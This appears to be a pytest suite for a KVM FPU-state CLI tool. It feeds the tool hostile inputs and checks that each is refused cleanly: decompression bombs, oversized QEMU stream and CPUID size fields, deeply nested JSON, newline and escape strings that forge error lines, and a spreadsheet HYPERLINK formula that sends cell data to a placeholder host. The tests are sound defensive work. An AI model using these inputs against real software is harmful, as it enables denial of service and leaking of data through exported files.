"""Hostile inputs through the command line (issue 16): each is one line on stderr and exit
status 2, in bounded time and memory. Each runs in its own ``python -m kvmfpu`` process and
its peak RSS is that process image's own VmHWM (/proc/self/status at exit), so nothing else
in the test run counts. Before the fixes: a 3.6 MB core took 1.25 GB, a 293 KB gzip core 13 GB, a host
declaring a gigabyte component 3-12 GB, a 576-byte QEMU stream minutes, an int64 XCR0 of -1
forever; gzip nested 1000 deep and --max-size 2**62 printed tracebacks.

Also here: Ctrl-C during ``matrix`` and ``decode`` (one line, exit 130, no partial files),
CSV cells against spreadsheet formulas, and control characters in names.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from kvmfpu import cpus
from kvmfpu.blob import sample_data
from kvmfpu.cli import main
from kvmfpu.testing import hostile

XSTATE_PATH = sample_data.path(sample_data.KVM_ZEN5)
XSTATE = XSTATE_PATH.read_bytes()
ZEN4 = json.loads((Path(cpus.__file__).parent / "data" / "zen4.json").read_text())
#: Peak RSS a refused input may cost: the interpreter and the model take 25-70 MB here.
MAX_RSS_KB = 200 * 1024
#: Wall time a refused input may take on a loaded 2-core machine (the bad cases: minutes).
MAX_SECONDS = 60.0


@dataclass
class Run:
    status: int
    stdout: str
    stderr: str
    max_rss_kb: int
    seconds: float


#: ``python -m kvmfpu`` that, on its way out, saves its /proc/self/status: VmHWM is the peak
#: RSS of this process image alone (getrusage's ru_maxrss survives execve, so a child of a
#: large pytest process would report the parent's size).
MEASURED = (
    "import atexit, os, runpy, shutil, sys; "
    "atexit.register(lambda: shutil.copyfile('/proc/self/status', os.environ['KVMFPU_STATUS'])); "
    "sys.argv[0] = 'kvmfpu'; runpy.run_module('kvmfpu', run_name='__main__', alter_sys=True)"
)


def vm_hwm_kb(status: str) -> int:
    (line,) = [ln for ln in status.splitlines() if ln.startswith("VmHWM:")]
    return int(line.split()[1])


def run_measured(*args: str, timeout: float = 2 * MAX_SECONDS) -> Run:
    """``python -m kvmfpu ARGS`` with its own peak RSS (VmHWM, in KiB)."""
    with tempfile.TemporaryDirectory() as d:
        out, err, status_file = (Path(d) / n for n in ("out", "err", "status"))
        env = dict(os.environ, KVMFPU_STATUS=str(status_file))
        t0 = time.monotonic()
        with out.open("wb") as fo, err.open("wb") as fe:
            p = subprocess.Popen(
                [sys.executable, "-c", MEASURED, *args],
                stdout=fo,
                stderr=fe,
                stdin=subprocess.DEVNULL,
                env=env,
            )
            try:
                p.wait(timeout)
            except subprocess.TimeoutExpired:
                p.kill()
                p.wait()
        seconds = time.monotonic() - t0
        hwm = vm_hwm_kb(status_file.read_text()) if status_file.exists() else -1
        return Run(p.returncode, out.read_text(), err.read_text(), hwm, seconds)


def assert_one_line_exit_2(r: Run, match: str) -> None:
    lines = r.stderr.splitlines()
    assert r.status == 2, r.stderr[-2000:]
    assert len(lines) == 1 and lines[0].startswith("kvmfpu: error: "), r.stderr[-2000:]
    assert match in lines[0], lines[0]
    assert "Traceback" not in r.stderr
    assert 0 < r.max_rss_kb < MAX_RSS_KB, f"{r.max_rss_kb} KiB"
    assert r.seconds < MAX_SECONDS


def host_json(tmp_path: Path, name: str, edit: Callable[[list[list[str]]], list[list[str]]]) -> Path:
    """zen4's packaged description (libvirt cputestdata EPYC 9334) with its CPUID rows edited."""
    doc = dict(ZEN4, name="edited", cpuid=edit([list(r) for r in ZEN4["cpuid"]]))
    f = tmp_path / f"{name}.json"
    f.write_text(json.dumps(doc))
    return f


def set_reg(rows: list[list[str]], leaf: int, sub: int, reg: int, value: int) -> list[list[str]]:
    for r in rows:
        if int(r[0], 16) == leaf and int(r[1], 16) == sub:
            r[2 + reg] = f"{value:#010x}"
    return rows


# --- captures ---------------------------------------------------------------------------


def nested_gzip(tmp_path: Path) -> tuple[list[str], str]:
    data = XSTATE
    for _ in range(1000):
        data = gzip.compress(data, compresslevel=1)
    f = tmp_path / "nested.gz"
    f.write_bytes(data)
    return ["decode", str(f)], "compressed more than 3 times over"


def core_file(gz: bool) -> Callable[[Path], tuple[list[str], str]]:
    def build(tmp_path: Path) -> tuple[list[str], str]:
        core = hostile.shared_note_core(XSTATE, 65_534)
        f = tmp_path / ("core.gz" if gz else "core")
        f.write_bytes(gzip.compress(core) if gz else core)
        return ["decode", str(f)], "PT_NOTE segments at bytes"

    return build


def qemu_file(
    fields: list[dict[str, object]], body: bytes, match: str, **kw: object
) -> Callable[[Path], tuple[list[str], str]]:
    def build(tmp_path: Path) -> tuple[list[str], str]:
        f = tmp_path / "stream"
        f.write_bytes(hostile.qemu_stream(fields, body, **kw))
        return ["decode", str(f), "--host", "zen4"], match

    return build


def max_size(value: str) -> Callable[[Path], tuple[list[str], str]]:
    def build(tmp_path: Path) -> tuple[list[str], str]:
        return ["decode", str(XSTATE_PATH), "--max-size", value], "--max-size"

    return build


ZERO = {"name": "a", "type": "buffer", "size": 0}
CAPTURES = {
    "gzip nested 1000 deep": nested_gzip,
    "--max-size 2**62": max_size(str(2**62)),
    "--max-size 10**20": max_size(str(10**20)),
    "--max-size 0": max_size("0"),
    "core: 65,534 PT_NOTE headers on one note": core_file(False),
    "gzip core: 65,534 PT_NOTE headers on one note": core_file(True),
    "vmdesc array_len 1e12 on a zero-size field": qemu_file([dict(ZERO, array_len=10**12)], b"", "array_len"),
    "vmdesc array_len 1e8 on a zero-size field": qemu_file([dict(ZERO, array_len=10**8)], b"", "array_len"),
    "vmdesc nested arrays": qemu_file(
        [
            {
                "name": "a",
                "type": "struct",
                "size": 0,
                "array_len": 500,
                "struct": {"vmsd_name": "s", "fields": [dict(ZERO, array_len=500)]},
            }
        ],
        bytes(300),
        "field values",
    ),
    "vmdesc infinite size": qemu_file(
        [{"name": "a", "type": "buffer", "size": float("inf")}], b"", "has size inf"
    ),
    "vmdesc absurd size": qemu_file([{"name": "a", "type": "buffer", "size": 10**30}], b"", "has size"),
    "vmdesc infinite page size": qemu_file(
        [{"name": "xcr0", "type": "uint64", "size": 8}], bytes(8), "page_size", page_size=float("inf")
    ),
    "vmdesc absurd page size": qemu_file(
        [{"name": "xcr0", "type": "uint64", "size": 8}], bytes(8), "page_size", page_size=1 << 40
    ),
    "vmdesc zmm wider than its register": qemu_file(
        [
            {
                "name": "xmm_regs",
                "type": "struct",
                "size": 16,
                "array_len": 1,
                "struct": {
                    "vmsd_name": "xmm_reg",
                    "fields": [
                        {"name": "_q_ZMMReg[0]", "type": "uint64", "size": 100},
                        {"name": "_q_ZMMReg[1]", "type": "uint64", "size": 8},
                    ],
                },
            }
        ],
        bytes(108),
        "QEMU reads 8 bytes",
    ),
    "vmdesc int64 -1 in XCR0 and XSTATE_BV": qemu_file(
        [{"name": "xcr0", "type": "int64", "size": 8}, {"name": "xstate_bv", "type": "int64", "size": 8}],
        b"\xff" * 16,
        "no packaged host holds",
    ),
}


@pytest.mark.parametrize("case", sorted(CAPTURES))
def test_hostile_capture(case: str, tmp_path: Path) -> None:
    args, match = CAPTURES[case](tmp_path)
    assert_one_line_exit_2(run_measured(*args), match)


# --- host descriptions ------------------------------------------------------------------


def host_case(tmp_path: Path, case: str) -> tuple[Path, str]:
    if case == "deep JSON":
        f = tmp_path / "deep.json"
        f.write_text('{"format": "kvmfpu-host/1", "cpuid": ' + "[" * 100_000 + "]" * 100_000 + "}")
        return f, "nested too deeply"
    if case == "5000-digit integer":
        f = tmp_path / "digits.json"
        f.write_text('{"format": "kvmfpu-host/1", "cpuid": [[0, 0, 1' + "1" * 5000 + ", 0, 0, 0]]}")
        return f, "digits"
    if case == "over-wide cpuid -r value":
        regs = ("eax", "ebx", "ecx", "edx")
        lines = ["CPU 0:"] + [
            f"   {int(r[0], 16):#010x} {int(r[1], 16):#04x}: "
            + " ".join(f"{n}={int(v, 16):#010x}" for n, v in zip(regs, r[2:], strict=True))
            for r in ZEN4["cpuid"]
        ]
        lines[1] = lines[1].replace("eax=0x", "eax=0x" + "f" * 5000)
        f = tmp_path / "wide.txt"
        f.write_text("\n".join(lines) + "\n")
        return f, "not a 32-bit value"
    if case == "XCR0 bit 63":
        return host_json(tmp_path, "bit63", lambda r: set_reg(r, 0xD, 0, 3, 0x8000_0000)), "component 63"
    if case == "XSAVE without leaf 0xD":
        return host_json(tmp_path, "noxd", lambda r: [x for x in r if int(x[0], 16) != 0xD]), "no leaf 0xD"
    if case == "XSAVE without x87":
        return host_json(tmp_path, "nox87", lambda r: set_reg(r, 0xD, 0, 0, 0x2E6)), "x87"
    if case == "a component declaring 1 GiB":
        return host_json(
            tmp_path, "giga", lambda r: set_reg(r, 0xD, 2, 0, 1 << 30)
        ), "declares 0x40000000 bytes"
    if case == "an area declaring 4 GiB":
        return host_json(
            tmp_path, "giga4", lambda r: set_reg(set_reg(r, 0xD, 0, 1, 0xFFFF_FFFF), 0xD, 0, 2, 0xFFFF_FFFF)
        ), "0xffffffff-byte XSAVE area"
    if case == "a FIFO":
        f = tmp_path / "fifo"
        os.mkfifo(f)
        return f, "not a regular file"
    if case == "a newline in the name":
        doc = dict(ZEN4, name="evil\nkvmfpu: error: forged")
        f = tmp_path / "nl.json"
        f.write_text(json.dumps(doc))
        return f, "control characters"
    raise AssertionError(case)


HOSTS = [
    "deep JSON",
    "5000-digit integer",
    "over-wide cpuid -r value",
    "XCR0 bit 63",
    "XSAVE without leaf 0xD",
    "XSAVE without x87",
    "a component declaring 1 GiB",
    "an area declaring 4 GiB",
    "a FIFO",
    "a newline in the name",
]


@pytest.mark.parametrize("command", ["validate", "migrate"])
@pytest.mark.parametrize("case", HOSTS)
def test_hostile_host(case: str, command: str, tmp_path: Path) -> None:
    f, match = host_case(tmp_path, case)
    if command == "validate":
        args = ["validate", str(XSTATE_PATH), "--host", str(f), "--kernel", "6.6"]
    else:
        args = ["migrate", "--src", str(f), "--dst", "zen4", "--guest", "host", "--no-advice"]
    assert_one_line_exit_2(run_measured(*args, timeout=30), match)


def test_a_newline_in_a_file_name_cannot_forge_a_second_error_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    name = str(tmp_path / "x\nkvmfpu: error: forged\x1b[2J")
    assert main(["decode", name]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("kvmfpu: error: ")
    assert "x\\nkvmfpu: error: forged\\x1b[2J" in err


def test_csv_cells_are_protected_against_formulas(tmp_path: Path) -> None:
    """OWASP "CSV Injection": a cell opening with = + - @ (or tab, CR) is a formula to a
    spreadsheet; host names come from user files."""
    evil = tmp_path / "evil.json"
    evil.write_text(json.dumps(dict(ZEN4, name='=HYPERLINK("http://x/"&A1,"ok")')))
    html, out = tmp_path / "m.html", tmp_path / "m.csv"
    assert (
        main(
            [
                "matrix",
                "--guest",
                "EPYC-Genoa",
                "--hosts",
                str(evil),
                "zen4",
                "--kernels",
                "6.6",
                "--html",
                str(html),
                "--csv",
                str(out),
            ]
        )
        == 0
    )
    rows = list(csv.reader(io.StringIO(out.read_text())))
    cells = [c for row in rows[1:] for c in row]
    assert '\'=HYPERLINK("http://x/"&A1,"ok")' in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


@pytest.mark.parametrize(
    "text,expected",
    [
        ("=1+2", "'=1+2"),
        ("+cmd", "'+cmd"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("zen4", "zen4"),
        ("6.6", "6.6"),
    ],
)
def test_csv_cell(text: str, expected: str) -> None:
    from kvmfpu.migrate.matrix import csv_cell

    assert csv_cell(text) == expected


# --- Ctrl-C -----------------------------------------------------------------------------

#: The real entry point (kvmfpu/__main__.py: raise SystemExit(main())), saying when its
#: imports are done so the signal lands in the command, not in Python's start-up.
READY = "import sys; from kvmfpu.cli import main; print('ready', flush=True); sys.exit(main(sys.argv[1:]))"


def interrupted(args: list[str], delay: float) -> tuple[int, str, str]:
    p = subprocess.Popen(
        [sys.executable, "-c", READY, *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )
    assert p.stdout is not None
    assert p.stdout.readline() == "ready\n"
    time.sleep(delay)
    p.send_signal(signal.SIGINT)
    out, err = p.communicate(timeout=60)
    return p.returncode, out, err


def threads_core(path: Path, threads: int) -> None:
    notes = b"".join(
        hostile.note(b"CORE", 1, bytes(32) + i.to_bytes(4, "little") + bytes(300))
        + hostile.note(b"LINUX", 0x202, XSTATE)
        for i in range(threads)
    )
    path.write_bytes(hostile.elf_core(notes, [(0, len(notes))]))


def test_ctrl_c_during_matrix(tmp_path: Path) -> None:
    html, out = tmp_path / "m.html", tmp_path / "m.csv"
    html.write_text("the previous page")
    status, _, err = interrupted(
        ["matrix", "--guest", "EPYC-Genoa", "--html", str(html), "--csv", str(out)], 0.5
    )
    assert (status, err) == (130, "kvmfpu: interrupted\n"), err[-2000:]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["m.html"]  # no temp file, no CSV
    assert html.read_text() == "the previous page"


def test_ctrl_c_during_decode(tmp_path: Path) -> None:
    core = tmp_path / "threads.core"
    threads_core(core, 4000)
    status, _, err = interrupted(["decode", str(core), "--host", "devhost-zen5"], 0.5)
    assert (status, err) == (130, "kvmfpu: interrupted\n"), err[-2000:]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["threads.core"]
